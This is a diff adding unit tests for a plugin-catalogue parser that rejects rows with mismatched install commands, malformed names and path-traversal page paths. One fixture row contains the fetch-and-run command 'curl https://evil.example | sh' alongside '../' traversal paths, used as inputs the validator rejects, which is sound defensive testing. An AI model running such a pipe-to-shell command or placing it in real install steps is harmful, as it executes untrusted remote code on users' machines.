@@ -135,6 +135,63 @@ describe('parseCatalogue', () => {
     ])
   })
 
+  test('leaves out commands that install something else, and names every fault of a row', () => {
+    const { listings, rejected } = parseCatalogue([
+      {
+        ...INDEX,
+        plugins: [
+          ['@two/other', 'two/repo', 'dsh plugin --profile web add @two/pack', null, null],
+          ['', 'no slash', 'curl https://evil.example | sh', '/plugins/../../escaped', null],
+          [null, 'two/repo#sub', 'dsh plugin --profile web add github:two/repo', null, null],
+          [null, 'One/Alone', null, null, null],
+          ...INDEX.plugins,
+        ],
+      },
+      [{ ...RECORD, npmPackage: 'a', install: 'dsh plugin --profile web add b', installable: true }],
+    ])
+    expect(listings.map(({ record }) => record.fullName)).toEqual([
+      'One/Alone',
+      'two/repo#packages/pack',
+      'Three/Nowhere',
+    ])
+    expect(rejected).toEqual([
+      expect.stringMatching(/^row 0: install: /),
+      expect.stringMatching(/^row 1: fullName: .+; path: .+; npm: null when there is none/),
+      expect.stringMatching(/^row 2: install: /),
+      'row 4: fullName: row 3 has it already',
+      expect.stringMatching(/^row 0: install: .*different package/),
+    ])
+  })
+
+  test.for([
+    ['https://h.example/plugins/dir/plugins/o-r', 'https://h.example/plugins/dir', '/plugins/o-r'],
+    ['https://h.example/dir/plugins/o-r', 'https://h.example/dir', '/plugins/o-r'],
+    ['https://h.example/elsewhere/o-r', null, null],
+    ['https://h.example/plugins/%2e%2e/o-r', null, null],
+  ])('reads the site and the path of the page %s', ([url, site, path]) => {
+    const catalogue = parseCatalogue([[{ ...RECORD, url }]])
+    expect([catalogue.site, catalogue.listings[0]?.path]).toEqual([site, path])
+  })
+
+  test.for([
+    '/plugins/../../escaped',
+    '/plugins/a/../b',
+    '/plugins/.hidden',
+    '/plugins/a\nb',
+    '/plugins/',
+    '/elsewhere/a',
+  ])('leaves out a row whose page is %j', (path) => {
+    const { rejected } = parseCatalogue([{ ...INDEX, plugins: [[null, 'a/b', null, path, null]] }])
+    expect(rejected).toEqual([expect.stringContaining('path: a path such as /plugins/owner-repo')])
+  })
+
+  test('is as new as the newest verdict, so that clients take a change of verdicts alone', () => {
+    const checked = (installCheckedAt: string) => [INDEX, [{ ...RECORD, installCheckedAt }]]
+    expect(parseCatalogue(checked('2026-08-01T00:00:00.000Z')).generated).toBe('2026-08-01T00:00:00.000Z')
+    expect(parseCatalogue(checked('2026-01-01T00:00:00.000Z')).generated).toBe(INDEX.generated)
+    expect(parseCatalogue(checked('2999-01-01T00:00:00.000Z')).generated).toBe(INDEX.generated)
+  })
+
   test.for([null, 'text', {}, { plugins: [] }, { ...INDEX, generated: 'yesterday' }])(
     'rejects the document %o',
     (document) => {
